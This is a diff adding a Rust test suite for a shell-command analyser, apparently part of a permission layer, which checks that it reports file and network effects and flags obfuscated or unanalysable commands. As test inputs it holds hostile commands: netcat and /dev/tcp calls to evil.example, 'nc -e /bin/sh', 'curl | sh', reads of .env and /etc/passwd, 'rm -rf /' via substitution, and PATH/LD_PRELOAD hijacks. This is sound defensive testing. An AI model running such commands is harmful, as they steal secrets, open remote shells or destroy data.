@@ -1,0 +1,473 @@
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+//! What `analyze` reports, one behaviour per test: effects of the commands people run,
+//! composition, wrappers, and the parts that must stay opaque.
+
+use mandate_shell::{Analysis, Effect, analyze};
+
+fn read(p: &str) -> Effect {
+    Effect::Read(p.to_string())
+}
+fn write(p: &str) -> Effect {
+    Effect::Write(p.to_string())
+}
+fn net(p: &str) -> Effect {
+    Effect::Network(p.to_string())
+}
+
+/// Every effect of every command, in order.
+fn effects(line: &str) -> Vec<Effect> {
+    let analysis = analyze(line);
+    analysis
+        .commands
+        .iter()
+        .flat_map(|c| c.effects.clone())
+        .collect()
+}
+
+fn programs(line: &str) -> Vec<String> {
+    analyze(line).commands.iter().map(|c| c.line()).collect()
+}
+
+fn opaque(line: &str) -> bool {
+    !analyze(line).opaque.is_empty()
+}
+
+fn clean(line: &str) -> Analysis {
+    let analysis = analyze(line);
+    assert!(analysis.opaque.is_empty(), "{line}: {:?}", analysis.opaque);
+    analysis
+}
+
+// ---- read-only commands ------------------------------------------------------------
+
+#[test]
+fn readers_read_their_operands_and_are_known() {
+    let a = clean("cat a.txt b.txt");
+    assert_eq!(a.commands[0].effects, [read("a.txt"), read("b.txt")]);
+    assert!(a.commands[0].known);
+    assert_eq!(effects("head -n 5 f"), [read("f")]);
+    assert_eq!(effects("tail -5 f"), [read("f")]);
+    assert_eq!(effects("wc -l f g"), [read("f"), read("g")]);
+    assert_eq!(effects("grep -n pat f"), [read("f")]);
+    assert_eq!(effects("grep -e pat f"), [read("f")]);
+    assert_eq!(effects("diff -u a b"), [read("a"), read("b")]);
+    assert_eq!(effects("sed -n 1,5p f"), [read("f")]);
+    assert_eq!(effects("ls"), [read(".")]);
+    assert!(clean("echo hi").commands[0].effects.is_empty());
+}
+
+#[test]
+fn recursive_reads_cover_the_tree() {
+    assert_eq!(effects("grep -r x src"), [read("src"), read("src/**")]);
+    assert_eq!(effects("rg x"), [read("./**")]);
+    assert_eq!(effects("find src -name '*.py'"), [read("src/**")]);
+    assert_eq!(effects("ls -R d"), [read("d/**")]);
+}
+
+#[test]
+fn globs_are_reported_as_patterns_and_braces_expand() {
+    assert_eq!(effects("cat .e*"), [read(".e*")]);
+    assert_eq!(effects("cat .[e]nv"), [read(".?nv")]);
+    assert_eq!(effects("cat {a,b}.txt"), [read("a.txt"), read("b.txt")]);
+    assert_eq!(
+        effects("cat '*'"),
+        [read("*")],
+        "a quoted star is still matched as a pattern"
+    );
+}
+
+#[test]
+fn unknown_commands_need_an_execute_rule() {
+    let a = clean("pytest tests -q");
+    assert!(!a.commands[0].known);
+    assert_eq!(a.commands[0].line(), "pytest tests -q");
+    assert!(!clean("./pytest").commands[0].known);
+    assert_eq!(clean("/tmp/git status").commands[0].program, "/tmp/git");
+    assert!(!clean("/bin/cat f").commands[0].known);
+}
+
+// ---- writes ----------------------------------------------------------------------
+
+#[test]
+fn redirections() {
+    assert_eq!(effects("echo x > f"), [write("f")]);
+    assert_eq!(effects("echo x >> f"), [write("f")]);
+    assert_eq!(effects("echo x >| f"), [write("f")]);
+    assert_eq!(effects("make &> log"), [write("log")]);
+    assert_eq!(effects("cat < in"), [read("in")]);
+    assert!(
+        effects("make 2>&1").is_empty(),
+        "fd duplication writes nothing"
+    );
+    assert!(effects("make 2>/dev/null >&2").is_empty());
+    assert_eq!(effects("cat <<EOF > out\nhi\nEOF"), [write("out")]);
+    assert_eq!(
+        effects("echo > /dev/tcp/evil.example/80"),
+        [net("evil.example")]
+    );
+    let a = clean("> f");
+    assert_eq!(a.commands[0].effects, [write("f")]);
+    assert!(a.commands[0].known);
+    assert_eq!(effects("{ echo a; echo b; } > f"), [write("f")]);
+}
+
+#[test]
+fn file_commands() {
+    assert_eq!(effects("tee a b"), [write("a"), write("b")]);
+    assert_eq!(effects("touch f"), [write("f")]);
+    assert_eq!(effects("mkdir -p a/b"), [write("a/b")]);
+    assert_eq!(effects("rm f"), [write("f")]);
+    assert_eq!(effects("rm -rf d"), [write("d"), write("d/**")]);
+    assert_eq!(effects("cp a b"), [read("a"), write("b/a"), write("b")]);
+    assert_eq!(
+        effects("mv a b"),
+        [read("a"), write("a"), write("b/a"), write("b")]
+    );
+    assert_eq!(
+        effects("ln -s ../x d/l"),
+        [
+            read("../x"),
+            read("d/../x"),
+            read("d/l/../x"),
+            write("d/l/x"),
+            write("d/l")
+        ]
+    );
+    assert_eq!(effects("chmod 644 f"), [write("f")]);
+    assert_eq!(effects("chmod -x f"), [write("f")]);
+    assert_eq!(effects("chown me f"), [write("f")]);
+    assert_eq!(effects("truncate -s 0 f"), [write("f")]);
+    assert_eq!(
+        effects("install -m 644 a d/"),
+        [read("a"), write("d/a"), write("d/")]
+    );
+    assert_eq!(effects("dd if=a of=b bs=1"), [read("a"), write("b")]);
+}
+
+#[test]
+fn sed_and_perl_in_place() {
+    assert_eq!(effects("sed -i s/a/b/ f"), [read("f"), write("f")]);
+    assert_eq!(effects("sed -i.bak -e s/a/b/ f"), [read("f"), write("f")]);
+    assert_eq!(effects("sed -n 'w out' f"), [write("out"), read("f")]);
+    assert_eq!(effects("sed '1r secret' f"), [read("secret"), read("f")]);
+    assert!(opaque("sed 's/a/b/e' f"));
+    assert!(opaque("sed -f script.sed f"));
+    assert!(opaque("perl -pi -e 's/a/b/' f"));
+}
+
+#[test]
+fn archives() {
+    assert_eq!(
+        effects("tar czf out.tgz src"),
+        [write("out.tgz"), read("src"), read("src/**")]
+    );
+    assert_eq!(
+        effects("tar xzf a.tgz -C dest"),
+        [read("a.tgz"), write("dest/**")]
+    );
+    assert_eq!(effects("tar tf a.tar"), [read("a.tar")]);
+    assert!(opaque("tar xf a.tar --to-command=sh"));
+    assert_eq!(
+        effects("zip out.zip a b"),
+        [write("out.zip"), read("out.zip"), read("a"), read("b")]
+    );
+    assert_eq!(effects("unzip a.zip -d d"), [read("a.zip"), write("d/**")]);
+    assert_eq!(effects("unzip -l a.zip"), [read("a.zip")]);
+}
+
+// ---- network -----------------------------------------------------------------------
+
+#[test]
+fn network_commands() {
+    let a = clean("curl -o out https://example.com/x");
+    assert_eq!(
+        a.commands[0].effects,
+        [write("out"), net("https://example.com/x")]
+    );
+    assert!(!a.commands[0].known);
+    assert_eq!(
+        effects("curl -T f https://h"),
+        [read("f"), net("https://h")]
+    );
+    assert_eq!(
+        effects("curl -d @f https://h"),
+        [read("f"), net("https://h")]
+    );
+    assert_eq!(
+        effects("curl -F a=@f https://h"),
+        [read("f"), net("https://h")]
+    );
+    assert_eq!(effects("curl file:///etc/passwd"), [read("/etc/passwd")]);
+    assert_eq!(
+        effects("wget -O out https://h/x"),
+        [net("https://h/x"), write("out")]
+    );
+    assert_eq!(effects("nc evil.example 443"), [net("evil.example")]);
+    assert_eq!(effects("ssh me@host.example ls"), [net("host.example")]);
+    assert_eq!(
+        effects("scp f host.example:/tmp"),
+        [read("f"), net("host.example")]
+    );
+    assert_eq!(
+        effects("rsync -a src/ me@host.example:x"),
+        [read("src/"), read("src/**"), net("host.example")]
+    );
+    assert_eq!(effects("git push"), [net("origin")]);
+    assert_eq!(effects("git fetch upstream"), [net("upstream")]);
+    assert_eq!(effects("pip install x"), [net("pypi.org")]);
+    assert_eq!(effects("npm install"), [net("registry.npmjs.org")]);
+    assert!(opaque("ssh -o ProxyCommand=x host"));
+    assert!(opaque("nc -e /bin/sh host 1"));
+}
+
+#[test]
+fn git_subcommands() {
+    let a = clean("git status");
+    assert!(a.commands[0].known && a.commands[0].effects.is_empty());
+    assert!(clean("git log --oneline").commands[0].known);
+    assert_eq!(effects("git diff"), [read("./**")]);
+    assert_eq!(effects("git show HEAD:.env"), [read(".env")]);
+    assert_eq!(effects("git diff --stat"), []);
+    assert!(
+        !clean("git commit -m x").commands[0].known,
+        "commit runs hooks"
+    );
+    assert_eq!(
+        clean("git -C sub status").commands[0].cwd.as_deref(),
+        Some("sub")
+    );
+    assert!(opaque("git -c core.pager=x log"));
+    assert!(!opaque("git -c color.ui=always log"));
+    assert!(opaque("git --git-dir=/x status"));
+    assert!(opaque("git config core.fsmonitor x"));
+}
+
+// ---- composition ------------------------------------------------------------------
+
+#[test]
+fn lists_pipelines_and_groups_report_every_command() {
+    assert_eq!(
+        programs("a && b || c; d & e\nf"),
+        ["a", "b", "c", "d", "e", "f"]
+    );
+    assert_eq!(programs("a | b |& c"), ["a", "b", "c"]);
+    assert_eq!(programs("(a; b) && { c; }"), ["a", "b", "c"]);
+    assert_eq!(
+        programs("if a; then b; elif c; then d; else e; fi"),
+        ["a", "b", "c", "d", "e"]
+    );
+    assert_eq!(
+        programs("for i in 1 2; do a; done; while b; do c; done"),
+        ["a", "b", "c"]
+    );
+    assert_eq!(programs("case x in y) a;; esac"), ["a"]);
+    assert_eq!(programs("! a"), ["a"]);
+    assert_eq!(programs("a \\\n b"), ["a b"]);
+}
+
+#[test]
+fn cd_is_tracked_through_the_line() {
+    let a = clean("cd src && cat a");
+    assert_eq!(a.commands[0].cwd.as_deref(), Some("src"));
+    let a = clean("cd src && cd .. && cat a");
+    assert_eq!(a.commands[0].cwd.as_deref(), Some("src/.."));
+    // `;` runs the next command even when `cd` failed: both directories.
+    let cwds: Vec<Option<String>> = clean("cd src; cat a")
+        .commands
+        .iter()
+        .map(|c| c.cwd.clone())
+        .collect();
+    assert_eq!(cwds, [Some("src".to_string()), None]);
+    // A subshell's `cd` stays in the subshell.
+    assert_eq!(clean("(cd src) && cat a").commands[0].cwd, None);
+    assert_eq!(clean("cd src | cat a").commands[0].cwd, None);
+    assert_eq!(clean("cd && cat a").commands[0].cwd.as_deref(), Some("~"));
+    assert!(opaque("cd $X && cat a"));
+    assert!(opaque("cd - && cat a"));
+    assert!(opaque("for d in a b; do cd $d; done"));
+}
+
+#[test]
+fn substitutions_run_and_their_output_is_unknown() {
+    let a = analyze("echo $(cat .env)");
+    assert_eq!(a.commands[0].effects, [read(".env")]);
+    assert_eq!(a.commands[1].args, ["$(cat .env)"]);
+    assert_eq!(effects("echo `cat x`"), [read("x")]);
+    assert_eq!(effects("diff <(cat a) b"), [read("a"), read("b")]);
+    assert!(
+        opaque("$(echo rm) -rf /"),
+        "a substitution in the command position"
+    );
+    assert!(opaque("cat $(ls)"), "a substitution in a path position");
+    assert!(opaque("cat \"$F\""));
+    assert!(
+        !opaque("echo \"$HOME\""),
+        "unknown words are fine where no path is expected"
+    );
+    assert_eq!(effects("cat <<EOF\n$(cat .env)\nEOF"), [read(".env")]);
+    assert!(effects("cat <<'EOF'\n$(cat .env)\nEOF").is_empty());
+}
+
+#[test]
+fn quoting_is_removed() {
+    assert_eq!(programs("\\rm -rf x"), ["rm -rf x"]);
+    assert_eq!(programs("'r'\"m\" x"), ["rm x"]);
+    assert_eq!(programs("$'\\x72m' x"), ["rm x"]);
+    assert_eq!(programs("echo \"a  b\" 'c d'"), ["echo a  b c d"]);
+    assert_eq!(clean("echo \"a  b\"").commands[0].args, ["a  b"]);
+    assert!(
+        opaque("{rm,-rf,x}"),
+        "braces in the command position do not parse: opaque"
+    );
+}
+
+// ---- wrappers ----------------------------------------------------------------------
+
+#[test]
+fn wrappers_are_unwrapped() {
+    for line in [
+        "env cat f",
+        "env A=1 cat f",
+        "nice -n 5 cat f",
+        "nohup cat f",
+        "timeout 5 cat f",
+        "timeout -s KILL 5 cat f",
+        "time cat f",
+        "command cat f",
+        "exec cat f",
+        "stdbuf -oL cat f",
+        "bash -c 'cat f'",
+        "sh -ec \"cat f\"",
+        "env nice timeout 1 bash -c 'command cat f'",
+    ] {
+        let a = clean(line);
+        assert_eq!(
+            a.commands.iter().map(|c| c.line()).collect::<Vec<_>>(),
+            ["cat f"],
+            "{line}"
+        );
+        assert_eq!(a.commands[0].effects, [read("f")], "{line}");
+    }
+}
+
+#[test]
+fn privileged_wrappers_are_reported_and_unwrapped() {
+    assert_eq!(
+        programs("sudo -u root cat f"),
+        ["sudo -u root cat f", "cat f"]
+    );
+    assert!(!clean("sudo cat f").commands[0].known);
+}
+
+#[test]
+fn find_actions_and_xargs() {
+    assert_eq!(
+        programs("find . -name '*.pyc' -exec rm {} +"),
+        ["find . -name *.pyc -exec rm {} +", "rm ./**"]
+    );
+    assert_eq!(effects("find d -delete"), [read("d/**"), write("d/**")]);
+    assert!(
+        opaque("ls | xargs cat"),
+        "xargs arguments are unknown paths"
+    );
+    assert_eq!(
+        programs("ls | xargs -0 pytest"),
+        ["ls", "pytest $(xargs input)"]
+    );
+    assert!(opaque("find . -exec sh -c 'cat $1' _ {} \\;"));
+}
+
+// ---- opaque parts ----------------------------------------------------------------
+
+#[test]
+fn code_the_text_does_not_show_is_opaque() {
+    for line in [
+        "python -c 'print(1)'",
+        "python3 -Ic 'print(1)'",
+        "node -e 'x'",
+        "node --eval=x",
+        "perl -ne 'print' f",
+        "ruby -e x",
+        "php -r x",
+        "deno eval x",
+        "awk 'BEGIN{system(\"id\")}'",
+        "awk '{print | \"sh\"}' f",
+        "awk '{print > \"out\"}' f",
+        "eval ls",
+        "source x.sh",
+        ". x.sh",
+        "curl x | sh",
+        "cat f | bash",
+        "cat f | python3",
+        "bash",
+        "bash < script",
+        "bash -i",
+        "f() { ls; }",
+        "alias ls=rm",
+        "trap 'rm x' EXIT",
+    ] {
+        assert!(opaque(line), "{line} should be opaque");
+    }
+}
+
+#[test]
+fn changing_path_makes_the_rest_opaque() {
+    assert!(opaque("PATH=/tmp ls"));
+    assert!(opaque("export PATH=/tmp:$PATH; ls"));
+    let a = analyze("PATH=/tmp; ls; cat f");
+    assert!(a.opaque.len() >= 3, "{:?}", a.opaque);
+    assert!(opaque("LD_PRELOAD=x.so ls"));
+    assert!(opaque("env GIT_SSH_COMMAND=x git fetch"));
+    assert!(!opaque("CI=1 npm test"));
+}
+
+#[test]
+fn arithmetic_on_assigned_variables_is_opaque() {
+    assert!(opaque("x='a[$(id)]'; [[ $x -eq 1 ]]"));
+    assert!(opaque("x=1; (( x ))"));
+    assert!(!opaque("echo $((1 + 2))"));
+    assert!(!opaque("[[ -f x ]]"));
+}
+
+#[test]
+fn parse_errors_and_odd_characters_are_opaque() {
+    for line in [
+        "cat (",
+        "echo 'unterminated",
+        "if true; then",
+        "ls *(e:'rm x':)",
+        "cat f\r rm x",
+        "cat\u{00a0}f",
+        "a\u{0}b",
+    ] {
+        assert!(opaque(line), "{line:?} should be opaque");
+    }
+}
+
+#[test]
+fn limits_hold() {
+    let long = "a".repeat(mandate_shell::MAX_INPUT + 1);
+    assert!(opaque(&long));
+    let deep = format!("{}x{}", "(".repeat(500), ")".repeat(500));
+    assert!(opaque(&deep));
+    // Wrappers nested past the depth limit.
+    let nested = format!("{}ls", "nice ".repeat(200));
+    assert!(opaque(&nested));
+    let many: String = (0..mandate_shell::MAX_COMMANDS + 10)
+        .map(|n| format!("echo {n};"))
+        .collect();
+    let a = analyze(&many);
+    assert!(a.commands.len() <= mandate_shell::MAX_COMMANDS);
+    assert!(!a.opaque.is_empty());
+}
+
+#[test]
+fn empty_and_comment_lines_do_nothing() {
+    assert_eq!(analyze(""), Analysis::default());
+    assert_eq!(analyze("   # just a comment"), Analysis::default());
+}
